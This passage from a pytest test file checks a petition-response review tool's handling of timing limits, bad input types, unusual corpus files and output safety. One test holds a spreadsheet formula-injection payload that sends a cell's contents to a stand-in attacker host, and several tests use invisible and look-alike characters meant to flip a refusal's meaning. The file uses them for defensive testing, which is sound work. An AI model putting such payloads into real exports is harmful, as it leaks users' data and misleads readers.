            "data": {
                "attributes": {
                    "action": shape.action,
                    "government_response": {"details": shape.text},
                    "other_parliamentary_business": [
                        {"subject": "Original Government response", "body": "First.\n" + original}
                    ],
                }
            }
        }
    )
    assert len(case.responses) == 2
    rc.align(original, shape.text, with_effects=False)
    assert time.perf_counter() - start < 15  # measured: under 2 s each on two shared cores


SCALED = ["publish-phrase", "may-x25000", "we-act-x12500", "vocab19-no-punct"]


@pytest.mark.parametrize("name", SCALED)
def test_review_of_scaled_down_shapes_is_bounded(name: str) -> None:
    shapes, perturb = _shapes()
    text = shapes[name].text[:3_000]
    case = rc.case_from_texts("Release the review in full", perturb(text), text)
    start = time.perf_counter()
    rc.review(case)
    assert time.perf_counter() - start < 30  # generous: review stages are being rewritten


def test_cli_corpus_on_an_unreadable_file_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["corpus", "/proc/self/mem"]) == 2
    err = capsys.readouterr().err
    assert "internal error" not in err and "cannot read" in err


# Found by an adversarial probe (sixth session) ------------------------------------------------


@pytest.mark.parametrize("attachments", [None, 5, "notes.pdf"])
def test_case_attachments_of_the_wrong_type_are_a_typed_error(attachments: Any) -> None:
    p = rc.Petition(action="Publish the report")
    with pytest.raises(rc.InputError, match=r"Case\.attachments"):
        rc.Case(petition=p, responses=[rc.Response(text="x")], attachments=attachments)


def test_with_updates_takes_updates() -> None:
    from respcompare.promises import with_updates

    case = rc.load_example("grooming-gangs")
    with pytest.raises(rc.InputError, match="Update"):
        with_updates(case, "not an update")  # type: ignore[arg-type]


def test_a_due_date_past_the_calendar_is_no_due_date() -> None:
    import datetime as dt

    text = "We will publish the report within 12 months, and act by early next year."
    r = rc.Response(text=text, date=dt.date.max)
    case = rc.Case(petition=rc.Petition(action="Publish the report"), responses=[r])
    review = rc.review(case)
    assert review.assessments[0].verdict is not None
    ledger = rc.track_commitments(case)
    assert ledger.promises and all(p.due is None for p in ledger.promises)
    from respcompare.due import find_due_dates

    found = find_due_dates(text, on=dt.date.max)
    assert found and all(d.due is None for d in found)


def test_a_pipe_in_a_corpus_folder_is_skipped_not_waited_on(tmp_path: Path) -> None:
    import os
    import shutil

    shutil.copy(FIXTURES / "petitions" / "300239.json", tmp_path / "300239.json")
    os.mkfifo(tmp_path / "stream.jsonl")
    os.mkfifo(tmp_path / "pipe.json")
    start = time.perf_counter()
    rs = rc.review_many(rc.load_corpus(tmp_path), progress=False)
    assert time.perf_counter() - start < 60
    assert len(rs.reviews) == 1
    skipped = {Path(e.path).name: e.reason for e in rs.errors}
    assert set(skipped) == {"stream.jsonl", "pipe.json"}
    assert all("not a regular file" in r for r in skipped.values())


def test_a_device_is_not_read_as_a_corpus() -> None:
    dev = Path("/dev/zero")
    if not dev.exists():
        pytest.skip("no /dev/zero here")
    rs = rc.review_many(rc.load_corpus(dev), progress=False)
    assert not rs.reviews and rs.errors


def test_corpus_never_overwrites_its_input(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import shutil

    src = tmp_path / "300239.json"
    shutil.copy(FIXTURES / "petitions" / "300239.json", src)
    lines = tmp_path / "more.jsonl"
    lines.write_text("", encoding="utf-8")
    before = src.read_bytes()
    for args in (
        ["corpus", str(src), "--out", str(src)],
        ["corpus", str(tmp_path), "--out", str(src)],
        ["corpus", str(tmp_path), "--out", str(tmp_path / "r.csv"), "--errors", str(lines)],
    ):
        assert main(args) == 2
        err = capsys.readouterr().err
        assert "is one of the input files" in err and err.count("\n") == 1
    assert src.read_bytes() == before


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    import csv

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    case = rc.Case(
        petition=rc.Petition(action=evil, id=1),
        responses=[rc.Response(text="@SUM(1+1) We will not do this.", summary="-1 for all")],
    )
    from respcompare.corpus_records import write_records

    out = write_records(rc.review_many([case], progress=False), tmp_path / "r.csv")
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    cells = [v for row in rows for v in row.values() if v]
    assert not [v for v in cells if v[0] in "=+-@\t\r"]
    assert rows[0]["petition_action"] == "'" + evil


def test_output_that_cannot_be_written_is_one_line(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import sys

    monkeypatch.setattr(sys, "stdout", None)
    assert main(["review", "--example", "grooming-gangs", "--summary"]) == 2
    err = capsys.readouterr().err
    assert "standard output is closed" in err and err.count("\n") == 1
    full = Path("/dev/full")
    if full.exists():
        handle = full.open("w")
        try:
            monkeypatch.setattr(sys, "stdout", handle)
            assert main(["review", "--example", "grooming-gangs", "--summary"]) == 1
        finally:
            with contextlib.suppress(OSError):
                handle.close()
        err = capsys.readouterr().err
        assert "cannot write the output" in err and err.count("\n") == 1


def test_a_ledger_of_hundreds_of_promises_is_bounded_and_says_so() -> None:
    # one review of two responses of 555 "We will publish ..." sentences took 44 s in its
    # ledger (every promise matched with every later sentence); now the ledger tracks at most
    # MAX_PROMISES and matches each against at most MAX_MATCHED sentences
    from respcompare.promises import MAX_PROMISES

    text = "We will publish the review in full. " * 555
    case = rc.Case(
        petition=rc.Petition(action="Release the review in full"),
        responses=[
            rc.Response(text=text, label="original"),
            rc.Response(text=text, label="revised"),
        ],
    )
    review = rc.review(case)
    start = time.perf_counter()
    md = review.to_markdown()
    assert time.perf_counter() - start < 20
    ledger = review.ledger()
    assert len(ledger.promises) == MAX_PROMISES
    assert ledger.limits_hit and "not" in ledger.limits_hit[0]
    assert "Not all read: promises: more than" in md


def test_user_asks_are_bounded() -> None:
    case = rc.load_example("grooming-gangs")
    with pytest.raises(rc.InputTooLargeError, match="an ask of 1,000,000 characters"):
        rc.review(case, asks=["x " * 500_000])
    with pytest.raises(rc.InputTooLargeError, match="more than 50 asks"):
        rc.assess(case.petition, case.responses[0], asks=["Publish the review"] * 51)
    assert rc.assess(case.petition, case.responses[0], asks=["Publish the review"] * 50).asks


@pytest.mark.parametrize(
    "hidden",
    [
        "no\u200bt",  # zero-width space
        "no\u00adt",  # soft hyphen
        "no\u2060t",  # word joiner
        "n\u200dot",  # zero-width joiner
        "\uff4e\uff4f\uff54",  # fullwidth letters
        "n\u0308ot",  # a combining mark NFC cannot compose
        "\u202enot\u202c",  # bidirectional override
    ],
)
def test_invisible_characters_do_not_turn_a_refusal_around(hidden: str) -> None:
    # an adversarial probe turned "will not" into answered-yes with characters no reader sees
    p = rc.Petition(action="Ban the sale of fireworks to the public")
    plain = rc.assess(p, rc.Response(text="The Government will not ban the sale of fireworks."))
    r = rc.Response(text=f"The Government will {hidden} ban the sale of fireworks.")
    assert r.text == "The Government will not ban the sale of fireworks."
    assert rc.assess(p, r).verdict is plain.verdict is rc.Verdict.ANSWERED_NO
    assert rc.Petition(action=f"Do {hidden} ban fireworks").action == "Do not ban fireworks"


def test_a_text_of_invisible_characters_is_empty() -> None:
    with pytest.raises(rc.EmptyTextError):
        rc.Response(text="\u200b\u200b\u2060")


def test_options_of_the_wrong_type_are_typed_errors_before_any_work() -> None:
    from respcompare.analysis import analyse
    from respcompare.judge import JudgeConfig

    case = rc.load_example("grooming-gangs")
    calls: list[Any] = [
        lambda: rc.review(case, asks=5),
        lambda: rc.review_many([case, case], asks=5, progress=False),
        lambda: rc.review_many(case),
        lambda: rc.review_many(None),
        lambda: rc.review(case, judge="strict"),
        lambda: rc.align("We act.", "We act now.", options={"edit_threshold": 0.5}),
        lambda: rc.align("We act.", "We act now.", analyses=[1, 2]),
        lambda: rc.assess(case.petition, case.responses[0], analysis="text"),
        lambda: rc.assess(case.petition, case.responses[0], synonyms={}),
        lambda: dataclasses.replace(JudgeConfig.default(), max_sentences=1.5),
        lambda: dataclasses.replace(JudgeConfig.default(), max_sentences=float("inf")),
        lambda: dataclasses.replace(JudgeConfig.default(), spelling_fuzz_cutoff=-1),
        lambda: dataclasses.replace(JudgeConfig.default(), directness_intercept=float("nan")),
        lambda: JudgeConfig.from_toml("[setting.review_below]\nsource = 'a'\n"),
        lambda: JudgeConfig.from_toml("[directness]\nintercept = 'abc'\n"),
        lambda: JudgeConfig.from_toml("directness = 'x'\n"),
        lambda: JudgeConfig.from_toml(None),  # type: ignore[arg-type]
    ]
    for call in calls:
        with pytest.raises(rc.InputError):
            call()
    # the right types still work
    ok = rc.assess(case.petition, case.responses[0], analysis=analyse(case.responses[0].full_text))
    assert ok.verdict is not None


def test_a_symlink_loop_in_a_corpus_folder_is_skipped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import shutil

    shutil.copy(FIXTURES / "petitions" / "300239.json", tmp_path / "300239.json")
    (tmp_path / "loop.json").symlink_to(tmp_path / "loop.json")
    out = tmp_path / "r.csv"
    assert main(["corpus", str(tmp_path), "--out", str(out)]) == 0
    err = capsys.readouterr().err
    assert "internal error" not in err and "loop.json" in err
    assert "300239" in out.read_text(encoding="utf-8")


def test_two_outputs_may_not_name_one_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "r.csv"
    code = main(
        [
            "corpus",
            str(FIXTURES / "petitions" / "300239.json"),
            "--out",
            str(out),
            "--errors",
            str(out),
        ]
    )
    assert code == 2 and not out.exists()
    assert "named for two outputs" in capsys.readouterr().err


@pytest.mark.parametrize(
    "hidden",
    [
        "n\u043et",
        "n\u0585t",
        "no\u0301t",
        "n\u00f3t",
        "n\u03bft",
    ],  # Cyrillic, Armenian, marks, Greek
)
def test_look_alike_letters_do_not_turn_a_refusal_around(hidden: str) -> None:
    p = rc.Petition(action="Publish the review in full")
    r = rc.Response(text=f"We will {hidden} publish the review in full.")
    assert r.text == "We will not publish the review in full."
    assert rc.assess(p, r).verdict is rc.Verdict.ANSWERED_NO
    # a word wholly in another script is left as it is
    assert (
        "\u041c\u043e\u0441\u043a\u0432\u0430"
        in rc.Response(text="The \u041c\u043e\u0441\u043a\u0432\u0430 office.").text
    )


@pytest.mark.parametrize("wordless", ["?!", "\x00\x00", "\u0301\u0301", "..."])
def test_a_text_or_ask_with_no_words_is_refused(wordless: str) -> None:
    with pytest.raises(rc.EmptyTextError):
        rc.Petition(action=wordless)
    case = rc.load_example("grooming-gangs")
    with pytest.raises(rc.InputError):
        rc.assess(case.petition, case.responses[0], asks=[wordless])
